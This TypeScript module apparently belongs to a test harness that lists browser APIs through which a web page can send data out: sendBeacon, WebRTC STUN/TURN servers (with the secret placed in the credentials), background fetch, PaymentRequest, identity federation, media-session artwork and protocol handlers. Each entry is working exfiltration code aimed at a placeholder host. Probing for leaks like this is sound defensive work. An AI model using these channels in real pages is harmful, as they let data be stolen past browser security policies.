import { fetchInBackground } from './fetch-in-background.ts';
import { missing, noWord, type Channel } from '../channel.ts';
import { gather, knock } from './peer-tries.ts';
import { succeeded } from './request-channels.ts';
import { showInPlayer } from './show-in-player.ts';

/** Ways out that only a page has: direct lines to other devices, and what the browser fetches on its behalf. */
export const lineChannels: readonly Channel[] = [
  {
    id: 'beacon',
    code: "navigator.sendBeacon('$URL', secret)",
    // It answers true although it was refused: only a report counts here.
    run: ({ url, secret }) => (navigator.sendBeacon(url, secret), noWord),
  },
  ...(['stun', 'turn', 'turns'] as const).map((kind): Channel => ({
    id: `rtc-${kind}`,
    code: `new RTCPeerConnection({ iceServers: [{ urls: '${kind}:$HOST' }] })`,
    run: async ({ host, secret }) => await gather({ urls: `${kind}:${host}`, username: secret, credential: secret }),
  })),
  {
    id: 'rtc-turn-tcp',
    code: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:$HOST?transport=tcp' }] })",
    run: async ({ host, secret }) =>
      await gather({ urls: `turn:${host}?transport=tcp`, username: secret, credential: secret }),
  },
  {
    id: 'rtc-candidate',
    code: "peer.addIceCandidate('candidate … udp … $HOST … host')",
    run: ({ host }) => knock(host),
  },
  {
    id: 'background-fetch',
    code: "registration.backgroundFetch.fetch('leak', ['$URL'])",
    run: ({ url }) => fetchInBackground(url),
  },
  {
    id: 'payment',
    code: "new PaymentRequest([{ supportedMethods: '$HTTPS' }], total).canMakePayment()",
    run: async ({ secureUrl }) => {
      if (typeof PaymentRequest === 'undefined') return missing;
      const total = { label: 'Nothing', amount: { currency: 'EUR', value: '0' } };
      await new PaymentRequest([{ supportedMethods: secureUrl }], { total }).canMakePayment();
      return noWord;
    },
  },
  {
    id: 'identity',
    code: "navigator.credentials.get({ identity: { providers: [{ configURL: '$HTTPS' }] } })",
    run: async ({ secureUrl }) => {
      if (!('IdentityCredential' in globalThis)) return missing;
      const identity = { providers: [{ configURL: secureUrl, clientId: 'leak' }] };
      return succeeded(await navigator.credentials.get({ identity } as CredentialRequestOptions));
    },
  },
  {
    id: 'media-session',
    code: "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '$URL' }] })",
    silentWall: 'policy',
    run: ({ url }) => showInPlayer(url),
  },
  {
    id: 'protocol-handler',
    code: "navigator.registerProtocolHandler('web+leak', '$URL&to=%s')",
    // Never a question to the person: another site's address is refused before.
    run: ({ url }) => {
      if (!('registerProtocolHandler' in navigator)) return missing;
      navigator.registerProtocolHandler('web+leak', `${url}&to=%s`);
      return noWord;
    },
  },
];
